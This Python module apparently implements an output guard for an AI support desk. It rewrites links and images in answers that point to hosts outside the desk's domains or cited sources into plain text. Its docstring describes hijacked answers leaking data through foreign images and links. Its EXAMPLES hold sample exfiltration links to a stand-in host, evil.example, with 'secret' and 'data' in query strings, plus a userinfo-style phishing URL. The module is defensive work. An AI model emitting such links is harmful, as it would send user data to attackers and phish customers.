"""Links and images in an answer lead to the desk's own domains or to a cited source; any other becomes plain text.

A picture or a link to a foreign host is how a hijacked answer carries data away, and how customers are phished.
"""

import re
from collections.abc import Iterable
from functools import lru_cache
from urllib.parse import urlsplit

from guards.base import DeskView, Evidence, Example, Finding, Inspected, guard

MARKDOWN = re.compile(r"!?\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]{1,2000})[^)\n]{0,200}\)")
REFERENCE = re.compile(r"^ {0,3}\[[^\]\n]{1,100}\]:\s*<?(\S{1,2000}?)>?(?:\s.*)?$", re.MULTILINE)
HTML = re.compile(r"</?[a-zA-Z][a-zA-Z0-9]{0,15}(?:\s[^<>]{0,2000})?/?>")
AUTOLINK = re.compile(r"<((?:https?|ftp|mailto|javascript|data):[^\s<>]{1,2000})>", re.IGNORECASE)
TLD = "com|net|org|io|vn|info|biz|co|app|dev|xyz|ru|cn|top|site|online|shop|store|link|me|us|uk|de|fr|eu|ly|gl|to|club|live|page|example"
BARE = re.compile(
    rf"(?<![\w@./-])(?:[a-z][a-z0-9+.-]{{1,12}}:[/\\]{{2}}|[/\\]{{2}}|www\.)[^\s<>()\[\]\"']{{1,2000}}|"
    rf"(?<![\w@./:-])(?:[a-z0-9-]{{1,63}}\.){{1,4}}(?:{TLD})(?![\w@-]|\.\w)(?:[/?#][^\s<>()\[\]\"']{{0,2000}})?",
    re.IGNORECASE,
)

EXAMPLES = (
    Example("See [your order](https://evil.example/?d=secret).", "mask", Evidence()),
    Example("![logo](https://evil.example/p.png?q=data) Done.", "mask", Evidence()),
    Example("Go to https://desk.example@evil.example/login now.", "mask", Evidence()),
    Example("Open Account > Orders and choose Return.", "pass", Evidence()),
)


@guard("output", 60)
class Links:
    """Turns foreign links into text."""

    def __init__(self, desk: DeskView) -> None:
        self._own = frozenset(domain.lower() for domain in desk.profile.domains)

    def check(self, seen: Inspected) -> Finding | None:
        evidence = seen.evidence or Evidence()
        text = seen.original
        text = MARKDOWN.sub(lambda match: match[0] if self._allowed(match[2], evidence) else match[1], text)
        text = REFERENCE.sub(lambda match: match[0] if self._allowed(match[1], evidence) else "", text)
        text = AUTOLINK.sub(lambda match: match[0] if self._allowed(match[1], evidence) else _defused(match[1]), text)
        # An autolink that is allowed is no tag; every tag is shown to nobody.
        text = HTML.sub("", text)
        text = BARE.sub(lambda match: match[0] if self._allowed(match[0], evidence) else _defused(match[0]), text)
        if text == seen.original:
            return None
        return Finding("mask", "foreign link", 1.0, text)

    def _allowed(self, url: str, evidence: Evidence) -> bool:
        if re.match(r"[a-z][a-z0-9+.-]*:(?!//)", url, re.IGNORECASE):
            return False  # javascript:, data:, mailto: and the like
        if re.match(r"[/#](?![/\\])", url):
            return True  # a path leads nowhere outside a page of ours
        host = _host(url)
        # The passages are read for links last: few answers hold one.
        return any(host == own or host.endswith(f".{own}") for own in self._own) or host in _hosts(evidence)


def _hosts(evidence: Evidence) -> Iterable[str]:
    """Where the cited passages come from and lead to."""
    for passage in evidence.passages:
        if passage.url:
            yield _host(passage.url)
        yield from _linked(passage.text)


@lru_cache(maxsize=1024)
def _linked(text: str) -> tuple[str, ...]:
    """Kept for the turns under way, whose answers are checked sentence by sentence against the same passages."""
    return tuple(_host(match[0]) for match in BARE.finditer(text))


def _host(url: str) -> str:
    """The host that a browser would go to; empty if it cannot be told."""
    plain = url.replace("\\", "/")
    plain = plain if "//" in plain[:16] else f"//{plain}"
    try:
        return (urlsplit(plain).hostname or "").rstrip(".")
    except ValueError:
        return ""


def _defused(url: str) -> str:
    """The host as words that no client makes a link of."""
    return _host(url).replace(".", "[.]") or "…"
